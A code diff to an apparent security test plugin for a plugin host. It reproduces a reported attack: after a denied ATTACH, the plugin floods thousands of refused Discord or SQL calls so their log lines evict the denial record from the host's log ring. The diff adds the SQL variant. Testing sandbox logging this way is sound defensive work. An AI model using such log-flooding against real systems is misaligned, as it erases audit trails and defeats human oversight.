@@ -1,7 +1,8 @@
 # Wiping the host's record of a refusal (issue 14 attack, position 1
 # finding 5): try an ATTACH (the host logs "denied: ... ATTACH ..."), then
-# make thousands of refused discord.send_message calls (no capability), so
-# that their host lines evict the ATTACH line from the plugin's log ring.
+# make thousands of refused discord.send_message calls (no capability), or
+# of refused statements each with another first word, so that their host
+# lines evict the ATTACH line from the plugin's log ring.
 from maid_sdk import Plugin
 
 plugin = Plugin()
@@ -17,7 +18,13 @@ def wipe(ctx, params):
     refused = 0
     for i in range(params.get("n", 2000)):
         try:
-            ctx.discord.send_message("123456789012345678", "spam %d" % i)
+            if params.get("mode") == "sql":
+                # A different refused statement each time: its first word
+                # is in the host's line ("denied: sql: QX statements ...").
+                word = "".join("QWERTYUIOPASDFGHJKLZ"[int(d)] for d in str(i))
+                ctx.sql.execute("Q" + word + " x")
+            else:
+                ctx.discord.send_message("123456789012345678", "spam %d" % i)
         except Exception:
             refused += 1
     return {"attach": attach, "refused": refused}
